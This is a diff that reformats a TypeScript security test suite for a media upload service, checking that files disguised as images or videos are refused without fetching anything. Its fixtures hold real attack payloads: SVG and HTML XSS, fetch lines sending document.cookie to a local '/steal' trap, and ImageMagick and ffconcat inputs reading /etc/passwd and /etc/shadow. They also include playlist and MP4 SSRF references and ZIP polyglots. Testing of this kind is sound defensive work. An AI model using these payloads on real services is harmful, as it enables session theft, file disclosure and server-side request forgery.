@@ -38,7 +38,11 @@ describe('type confusion', () => {
     const owner = `confused-${++owners}`;
     const token = await t.token(owner);
     const blobsBefore = blobFiles(t).length;
-    const reply = await upload(t.url, token, { name, bytes, type: name.endsWith('.jpg') ? 'image/jpeg' : 'application/octet-stream' });
+    const reply = await upload(t.url, token, {
+      name,
+      bytes,
+      type: name.endsWith('.jpg') ? 'image/jpeg' : 'application/octet-stream',
+    });
     return { reply, owner, token, blobsBefore };
   }
 
@@ -46,16 +50,50 @@ describe('type confusion', () => {
   const port = (i: number) => trap.ports[i];
 
   describe('markup a browser would render is 415 whatever it is named', () => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)"><rect width="10" height="10"/></svg>';
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)"><rect width="10" height="10"/></svg>';
     it.each([
       ['SVG named .jpg', 'photo.jpg', () => Buffer.from(svg)],
-      ['SVG with an XML declaration named .png', 'logo.png', () => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${svg}`)],
-      ['SVG after a DOCTYPE named .jpg', 'chart.jpg', () => Buffer.from(`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg}`)],
-      ['SVG after a byte-order mark and blank lines named .webp', 'sticker.webp', () => Buffer.from(`\uFEFF\n\n  ${svg}`)],
-      ['SVG in UTF-16 named .gif', 'anim.gif', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')])],
-      ['HTML named .jpg', 'avatar.jpg', () => Buffer.from(`<!DOCTYPE html><html><body><script>fetch('http://127.0.0.1/'+document.cookie)</script></body></html>`)],
+      [
+        'SVG with an XML declaration named .png',
+        'logo.png',
+        () => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${svg}`),
+      ],
+      [
+        'SVG after a DOCTYPE named .jpg',
+        'chart.jpg',
+        () =>
+          Buffer.from(
+            `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg}`,
+          ),
+      ],
+      [
+        'SVG after a byte-order mark and blank lines named .webp',
+        'sticker.webp',
+        () => Buffer.from(`\uFEFF\n\n  ${svg}`),
+      ],
+      [
+        'SVG in UTF-16 named .gif',
+        'anim.gif',
+        () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')]),
+      ],
+      [
+        'HTML named .jpg',
+        'avatar.jpg',
+        () =>
+          Buffer.from(
+            `<!DOCTYPE html><html><body><script>fetch('http://127.0.0.1/'+document.cookie)</script></body></html>`,
+          ),
+      ],
       ['a bare <script> named .gif', 'smile.gif', () => Buffer.from('<script>alert(1)</script>\n')],
-      ['an ImageMagick MSL script named .png', 'convert.png', () => Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<image><read filename="/etc/passwd"/><write filename="/tmp/out.png"/></image>\n')],
+      [
+        'an ImageMagick MSL script named .png',
+        'convert.png',
+        () =>
+          Buffer.from(
+            '<?xml version="1.0" encoding="UTF-8"?>\n<image><read filename="/etc/passwd"/><write filename="/tmp/out.png"/></image>\n',
+          ),
+      ],
     ])('%s → 415 UNSUPPORTED_MEDIA_TYPE, nothing kept', async (_label, name, bytes) => {
       const { reply, ...kept } = await attempt(name, bytes());
       expect([reply.status, reply.json?.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
@@ -71,7 +109,12 @@ describe('type confusion', () => {
       return expectUnharmed(t, { ...kept, refused: true });
     }
     expect(reply.status).toBe(201);
-    expect(reply.json).toMatchObject({ type: 'document', mimeType: 'text/plain', originalMimeType: 'text/plain', metadata: { charset: 'utf-8' } });
+    expect(reply.json).toMatchObject({
+      type: 'document',
+      mimeType: 'text/plain',
+      originalMimeType: 'text/plain',
+      metadata: { charset: 'utf-8' },
+    });
     const served = await request(`${t.url}/api/v1/media/${reply.json.id}`, { token: kept.token });
     expect(served.headers.get('content-type')).toBe('text/plain; charset=utf-8');
     expect(served.headers.get('content-disposition')).toMatch(/^attachment; filename="?[^"]+\.txt"?(;|$)/);
@@ -104,7 +147,10 @@ describe('type confusion', () => {
           '',
         ].join('\n'),
       );
-    const ffconcat = () => Buffer.from(`ffconcat version 1.0\nfile '/etc/passwd'\nfile 'http://127.0.0.1:${port(playlistPort)}/y.mp4'\nfile 'subfile,,start,0,end,0,,:/etc/shadow'\n`);
+    const ffconcat = () =>
+      Buffer.from(
+        `ffconcat version 1.0\nfile '/etc/passwd'\nfile 'http://127.0.0.1:${port(playlistPort)}/y.mp4'\nfile 'subfile,,start,0,end,0,,:/etc/shadow'\n`,
+      );
 
     it.each([
       ['an HLS playlist named clip.mp4', 'clip.mp4', hls],
@@ -124,19 +170,26 @@ describe('type confusion', () => {
     });
 
     it('a JavaScript file named photo.jpg', async () => {
-      await expectTextOrRefused('photo.jpg', Buffer.from(`fetch('http://127.0.0.1:${port(web)}/steal?c=' + document.cookie);\n`));
+      await expectTextOrRefused(
+        'photo.jpg',
+        Buffer.from(`fetch('http://127.0.0.1:${port(web)}/steal?c=' + document.cookie);\n`),
+      );
       await expectNoConnection();
     });
   });
 
   describe('a container head in front of a playlist is opened only with its own demuxer', () => {
-    const playlist = () => Buffer.from(`#EXTM3U\n#EXTINF:10.0,\nhttp://127.0.0.1:${port(playlistPort)}/x.ts\n#EXT-X-ENDLIST\n`);
+    const playlist = () =>
+      Buffer.from(`#EXTM3U\n#EXTINF:10.0,\nhttp://127.0.0.1:${port(playlistPort)}/x.ts\n#EXT-X-ENDLIST\n`);
     it.each([
       ['an MP4 ftyp box followed by an HLS playlist', 'clip.mp4', () => Buffer.concat([mp4Head(), playlist()])],
       ['a RIFF/AVI header followed by an HLS playlist', 'clip.avi', () => Buffer.concat([aviHead(), playlist()])],
     ])('%s → 422 CORRUPT_FILE (or 415), nothing fetched', async (_label, name, bytes) => {
       const { reply, ...kept } = await attempt(name, bytes());
-      expect([[422, 'CORRUPT_FILE'], [415, 'UNSUPPORTED_MEDIA_TYPE']]).toContainEqual([reply.status, reply.json?.code]);
+      expect([
+        [422, 'CORRUPT_FILE'],
+        [415, 'UNSUPPORTED_MEDIA_TYPE'],
+      ]).toContainEqual([reply.status, reply.json?.code]);
       await expectUnharmed(t, { ...kept, refused: true });
       await expectNoConnection();
     });
@@ -144,7 +197,22 @@ describe('type confusion', () => {
     it('an MP4 whose data reference names a URL: decoded from its own bytes, the URL never opened', async () => {
       const path = join(work, 'dref.mp4');
       // No faststart: the index comes after the media data, so growing it moves no sample offset.
-      execFileSync('ffmpeg', ['-loglevel', 'error', '-y', '-f', 'lavfi', '-i', 'testsrc2=size=160x120:rate=10:duration=1', '-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p', path]);
+      execFileSync('ffmpeg', [
+        '-loglevel',
+        'error',
+        '-y',
+        '-f',
+        'lavfi',
+        '-i',
+        'testsrc2=size=160x120:rate=10:duration=1',
+        '-c:v',
+        'libx264',
+        '-preset',
+        'ultrafast',
+        '-pix_fmt',
+        'yuv420p',
+        path,
+      ]);
       const bytes = withExternalDataReference(readFileSync(path), `http://127.0.0.1:${port(playlistPort)}/remote.mp4`);
       const { reply, ...kept } = await attempt('remote.mp4', bytes);
       expect([201, 422]).toContain(reply.status);
@@ -155,15 +223,35 @@ describe('type confusion', () => {
   });
 
   describe('polyglots are stored as the one format they were accepted as', () => {
-    const zip = () => makeZip([{ name: 'payload.html', data: Buffer.from('<html><script>alert(1)</script></html>') }, { name: 'run.sh', data: Buffer.from('#!/bin/sh\nid\n') }]);
-    const hasZip = (bytes: Buffer) => bytes.includes(Buffer.from([0x50, 0x4b, 0x03, 0x04])) || bytes.includes(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
+    const zip = () =>
+      makeZip([
+        { name: 'payload.html', data: Buffer.from('<html><script>alert(1)</script></html>') },
+        { name: 'run.sh', data: Buffer.from('#!/bin/sh\nid\n') },
+      ]);
+    const hasZip = (bytes: Buffer) =>
+      bytes.includes(Buffer.from([0x50, 0x4b, 0x03, 0x04])) || bytes.includes(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
 
     it.each([
       // Re-encoding makes this one smaller: the stored version is a new JPEG.
-      ['a detailed JPEG followed by a ZIP', 'photo.jpg', async () => noise(640, 480, 1).jpeg({ quality: 95 }).toBuffer()],
+      [
+        'a detailed JPEG followed by a ZIP',
+        'photo.jpg',
+        async () => noise(640, 480, 1).jpeg({ quality: 95 }).toBuffer(),
+      ],
       // Re-encoding at the service's quality makes this one larger, so the upload itself would be kept.
-      ['a coarse JPEG followed by a ZIP', 'thumb.jpg', async () => noise(200, 150, 2).blur(1).jpeg({ quality: 20 }).toBuffer()],
-      ['a PNG followed by a ZIP after IEND', 'icon.png', async () => sharp({ create: { width: 64, height: 64, channels: 4, background: '#ff000080' } }).png().toBuffer()],
+      [
+        'a coarse JPEG followed by a ZIP',
+        'thumb.jpg',
+        async () => noise(200, 150, 2).blur(1).jpeg({ quality: 20 }).toBuffer(),
+      ],
+      [
+        'a PNG followed by a ZIP after IEND',
+        'icon.png',
+        async () =>
+          sharp({ create: { width: 64, height: 64, channels: 4, background: '#ff000080' } })
+            .png()
+            .toBuffer(),
+      ],
     ])('%s: accepted as an image, the ZIP not kept', async (_label, name, image) => {
       const polyglot = Buffer.concat([await image(), zip()]);
       const { reply, token, ...kept } = await attempt(name, polyglot);
